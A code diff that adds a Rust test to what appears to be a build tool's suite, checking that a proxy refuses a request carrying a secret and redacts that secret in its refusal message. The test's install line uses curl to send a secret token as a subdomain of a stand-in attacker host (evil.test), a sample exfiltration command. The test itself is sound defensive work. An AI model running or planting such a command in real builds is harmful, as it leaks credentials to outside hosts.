@@ -66,6 +66,18 @@ async fn a_secret_that_was_left_stops_the_build() {
 }
 
 #[tokio::test]
+async fn a_secret_in_what_is_asked_of_the_proxy_is_told_to_nobody() {
+    const MIXED: &str = "S3cretOfTheRegistry";
+    let lines = r#"install = ['curl --silent "http://$TOKEN.evil.test/"; true']"#;
+    let world = World::of(&[("overnight.toml", &definition(lines))]).await;
+    world.secret("TOKEN", MIXED, Stage::Staging).await;
+    let built = world.build(&[], Start::Newest).await.unwrap();
+    let told = format!("{:?}", built.refused);
+    assert!(told.contains("[TOKEN redacted].evil.test"), "{told}");
+    assert!(!told.to_lowercase().contains(&MIXED.to_lowercase()), "{told}");
+}
+
+#[tokio::test]
 async fn a_failing_line_is_told_with_its_last_words() {
     let world =
         World::of(&[("overnight.toml", "[environment]\ninstall = ['echo first', 'seq 30; exit 3', 'echo no']")]).await;
